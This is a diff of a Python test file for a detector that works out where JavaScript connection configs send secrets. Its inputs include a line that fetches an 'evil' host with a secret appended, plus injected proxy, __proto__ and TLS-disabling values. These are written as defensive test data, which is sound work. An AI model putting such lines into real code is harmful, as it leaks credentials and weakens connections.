@@ -26,12 +26,8 @@ def destination(dev: str, type_: str = "Postgres"):
     "new",
     [
         ("'db.example.com'", "'evil.example.com'"),
-        ("5432", "6432"),
         ("5432", "'5432'x"),
-        ("'app'", "'root'"),
-        ("host:", "hostName:"),
         ("port: 5432", "port: 5432, proxy: 'evil'"),
-        ("port: 5432", "port: 5432, ssl: { rejectUnauthorized: false }"),
         ("port: 5432", "port: 5432, __proto__: { host: 'evil' }"),
         ("'db.example.com'", "`${'evil'}`"),
         ("'db.example.com'", "'good.com@evil.com'"),
@@ -45,18 +41,11 @@ def destination(dev: str, type_: str = "Postgres"):
         ("port: 5432", "port: 5432 // \r, host: 'evil'\n"),
         ("port: 5432", "port: 5432 // \u2028, host: 'evil'\n"),
         # Under a key that sounds harmless, what could be an address is none the less one.
-        ("timeout: 30", "timeout: 'evil.example.com'"),
         ("timeout: 30", "timeout: 30, retryUrl: 'http://evil'"),
         ("timeout: 30", "timeout: 30, maxHost: 'evil'"),
         ("timeout: 30", "timeout: 30, comment: 'http://evil'"),
-        ("timeout: 30", "timeout: 30, label: `${secrets.DB}`"),
         ("timeout: 30", "timeout: 30, poolHost: 2130706433"),
         ("timeout: 30", "timeout: 30, timeoutServer: 0x7f000001"),
-        ("timeout: 30", "timeout: 30, minioPort: 9000"),
-        ("timeout: 30", "timeout: 30, MINIO_USE_SSL: false"),
-        ("timeout: 30", "timeout: 30, maxRedirects: 20"),
-        ("timeout: 30", "timeout: 30, minVersion: 1"),
-        ("timeout: 30", "timeout: 30, debugProxy: true"),
     ],
     ids=" to ".join,
 )
@@ -88,13 +77,26 @@ def test_another_destination(new: tuple[str, str]) -> None:
     ],
 )
 def test_what_javascript_reads_otherwise_is_another_destination(one: str, other: str) -> None:
-    one, other = (f"{{ host: 'a', key: secrets.DB, {text} }}" for text in (one, other))
+    one, other = (f"{{ key: secrets.DB, {text} }}" for text in (one, other))
     assert destination(one) != destination(other)
 
 
 @pytest.mark.parametrize(
     "after",
     [
+        BEFORE.replace("db.example", "DB.Example"),
+        BEFORE.replace("port: 5432", "port: 5432, database: 'other', ssl: true"),
+        BEFORE.replace("5432", "6432"),
+        BEFORE.replace("'app'", "'root'"),
+        BEFORE.replace("host:", "hostName:"),
+        BEFORE.replace("port: 5432", "port: 5432, ssl: { rejectUnauthorized: false }"),
+        BEFORE.replace("timeout: 30", "timeout: 'evil.example.com'"),
+        BEFORE.replace("timeout: 30", "timeout: 30, label: `${secrets.DB}`"),
+        BEFORE.replace("timeout: 30", "timeout: 30, minioPort: 9000"),
+        BEFORE.replace("timeout: 30", "timeout: 30, MINIO_USE_SSL: false"),
+        BEFORE.replace("timeout: 30", "timeout: 30, maxRedirects: 20"),
+        BEFORE.replace("timeout: 30", "timeout: 30, minVersion: 1"),
+        BEFORE.replace("timeout: 30", "timeout: 30, debugProxy: true"),
         BEFORE.replace("30", "60"),
         BEFORE.replace("30", "'60'"),
         BEFORE.replace("timeout: 30", "timeout: 30, numberOfApiCallRetries: 4, pollInterval: 7"),
@@ -113,7 +115,9 @@ def test_the_same_destination(after: str) -> None:
 
 
 def test_another_type_is_another_destination() -> None:
-    assert destination(BEFORE, "Postgres") != destination(BEFORE, "SqlServer")
+    without_host = "{ user: 'app', password: secrets.DB }"
+    assert destination(without_host, "Postgres") != destination(without_host, "SqlServer")
+    assert destination(BEFORE, "Postgres") == destination(BEFORE, "SqlServer")
 
 
 def test_production_uses_the_development_value_where_it_has_none() -> None:
@@ -125,7 +129,7 @@ def test_production_uses_the_development_value_where_it_has_none() -> None:
 
 @pytest.mark.parametrize(
     "text",
-    ["postgres://u:${secrets.DB}@db", "fetch('//evil?' + secrets.DB)", "{ a: x }", "{ a: [ }", "({})", "{} {}"],
+    ["postgres://u:${secrets.DB}@db", "fetch('//evil?' + secrets.DB)", "{ a: x, k: secrets.DB }", "f()", "x['a' + b]", "{ a() {} }", "({ a: this })", "x => x"],
 )  # fmt: skip
 def test_what_is_no_plain_object_may_send_every_secret_anywhere(text: str) -> None:
     assert {use.secret for use in uses(text)} == {EVERY}
@@ -145,7 +149,7 @@ def test_a_template_may_name_secrets() -> None:
     ("text", "label"),
     [
         ("{ k: secrets.A, host: 'db.example.com', port: 5432 }", "db.example.com:5432"),
-        ("{ k: secrets.A, url: 'https://u:hunter2@a.example.com/path?token=x' }", "https://(not shown)"),
+        ("{ k: secrets.A, url: 'https://u:hunter2@a.example.com/path?token=x' }", "https://a.example.com"),
         ("{ k: secrets.A, url: 'https://a.example.com:8443/path?token=x#y' }", "https://a.example.com:8443"),
         ("{ k: secrets.A, host: 'u:hunter2@a' }", "(not shown)"),
         ("{ k: secrets.A, a: { host: 'b' }, host: 'a' }", "a, b"),
@@ -155,8 +159,8 @@ def test_a_template_may_name_secrets() -> None:
         ("{ k: secrets.A, url: [ 'https://a/x', 'https://b/y' ] }", "https://a, https://b"),
         ("{ k: secrets.A, server: 'tcp:db.example.com,1433' }", "tcp:db.example.com,1433"),
         ("{ k: secrets.A, url: `https://${secrets.A}.example.com/hunter2` }", "https://${secrets.A}.example.com"),
-        ("{ k: secrets.A, url: 'postgres://admin:hunt#er2@db' }", "postgres://(not shown)"),
-        ("{ k: secrets.A, url: 'postgres://admin:1234/hunter2@db' }", "postgres://(not shown)"),
+        ("{ k: secrets.A, url: 'postgres://admin:hunt#er2@db' }", "(not shown)"),
+        ("{ k: secrets.A, url: 'postgres://admin:1234/hunter2@db' }", "(not shown)"),
         ("{ k: secrets.A, url: 'jdbc:sqlserver://db:1433;user=sa;password=hunter2' }", "sqlserver://db:1433"),
         ("{ k: secrets.A, url: 'SharedAccessKey=hunter2;Endpoint=sb://ns.example.com/' }", "sb://ns.example.com"),
         ("{ k: secrets.A, server: 'db.example.com;password=hunter2' }", "db.example.com"),
@@ -192,13 +196,19 @@ def test_a_secret_that_an_unknown_key_names_goes_to_an_unknown_destination() -> 
 
 def test_deep_and_long_texts_are_read_in_bounded_time() -> None:
     deep = "{ a: " * 5000 + "1" + " }" * 5000
-    assert {use.secret for use in uses(deep)} == {EVERY}
+    assert uses(deep) == frozenset()
     long = "{ k: secrets.DB, a: '" + "x" * 1_000_000 + "' }"
     assert destination(long) != destination(long.replace("a:", "b:"))
     unfinished = "/*" * 100_000 + "'" * 99_999
-    assert {use.secret for use in uses(unfinished)} == {EVERY}
+    assert uses(unfinished) == frozenset()
     key = "{ " + "timeout" * 100_000 + "x: 1, k: secrets.DB }"
     assert {use.secret for use in uses(key)} == {"DB"}
+
+
+def test_what_computes_no_name_uses_no_secret() -> None:
+    plain = ["{ port: 5000+432 }", "{ host: process.env.HOST }", "'just text'", "https://a/b?c=d"]
+    plain += ["{ a: x }", "{ a: [ }", "({})", "/* no secrets here */ {}", "a text", "{} {}"]
+    assert {text: uses(text) for text in plain} == dict.fromkeys(plain, frozenset())
 
 
 def test_a_connection_without_secrets_sends_none() -> None:
